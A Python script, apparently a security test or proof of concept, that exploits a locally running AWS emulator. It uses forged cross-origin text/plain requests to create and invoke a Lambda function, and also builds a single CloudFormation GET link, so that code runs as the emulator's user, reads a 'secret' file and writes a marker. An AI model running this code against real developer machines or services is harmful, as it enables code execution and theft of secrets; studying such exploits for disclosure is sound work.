"""What a stranger sends to the port of an embedded AWS: code, and the wish to run it. Python's own library will do.

The requests are those that a web page may send without asking first: POSTs of text/plain. As a program, it makes
itself another user first: `python -I -c SOURCE UID PORT WAY FOLDER`, and says what it got in JSON.
"""

import base64
import http.client
import io
import json
import os
import sys
import urllib.parse
import zipfile

FUNCTIONS = "/2015-03-31/functions"
FOREIGN = {"Content-Type": "text/plain", "Host": "stranger.example", "Origin": "http://stranger.example"}
CODE = """
import os
def handler(event, context):
    with open(os.path.join(event["folder"], "secret")) as file:
        secret = file.read()
    with open(os.path.join(event["folder"], event["way"]), "w") as marker:
        marker.write("written by the stranger's code")
    return {"uid": os.getuid(), "secret": secret}
"""


def archive() -> str:
    """The function's code, as CreateFunction takes it."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as folder:
        folder.writestr("index.py", CODE)
    return base64.b64encode(packed.getvalue()).decode()


def creation(way: str) -> dict[str, object]:
    """The body of CreateFunction."""
    return {
        "FunctionName": way, "Runtime": "python3.12", "Handler": "index.handler", "Timeout": 30,
        "Role": "arn:aws:iam::000000000000:role/any", "Code": {"ZipFile": archive()},
    }  # fmt: skip


def template(way: str, folder: str) -> str:
    """A stack of CloudFormation, which one request makes, also a GET: a function, and a resource that calls it."""
    code = CODE.replace("(event, context):", '(event, context):\n    event = event["ResourceProperties"]')
    function = {
        "Runtime": "python3.12", "Handler": "index.handler", "Code": {"ZipFile": code},
        "Role": "arn:aws:iam::000000000000:role/any", "FunctionName": f"stack-{way}",
    }  # fmt: skip
    called = {"ServiceToken": {"Fn::GetAtt": ["Function", "Arn"]}, "folder": folder, "way": way}
    resources = {
        "Function": {"Type": "AWS::Lambda::Function", "Properties": function},
        "Call": {"Type": "Custom::Call", "Properties": called},
    }
    return json.dumps({"Resources": resources})


def link(way: str, folder: str) -> str:
    """Path and query of the one GET that runs code."""
    asked = {"Action": "CreateStack", "StackName": way, "TemplateBody": template(way, folder), "way": way}
    return f"/?{urllib.parse.urlencode(asked)}"


def post(port: int, path: str, document: dict[str, object]) -> tuple[int, str]:
    """Status and text of the answer."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        connection.request("POST", path, json.dumps(document), FOREIGN)
        answer = connection.getresponse()
        return answer.status, answer.read().decode(errors="replace")
    finally:
        connection.close()


def attack(port: int, way: str, folder: str) -> list[tuple[int, str]]:
    """Both answers: of CreateFunction, of Invoke."""
    made = post(port, FUNCTIONS, creation(way))
    return [made, post(port, f"{FUNCTIONS}/{way}/invocations", {"way": way, "folder": folder})]


def become(uid: int) -> None:
    """For good. Python may be where only root can read it, so what is loaded late is loaded before."""
    "127.0.0.1".encode("idna")
    os.chdir("/")
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)


def can_read(path: str) -> bool:
    try:
        with open(path) as file:
            return bool(file.read())
    except PermissionError:
        return False


if __name__ == "__main__":
    uid, port, way, folder = sys.argv[1:]
    become(int(uid))
    own = {"uid": os.getuid(), "could_read_it_anyway": can_read(os.path.join(folder, "secret"))}
    print(json.dumps({**own, "answers": attack(int(port), way, folder)}))
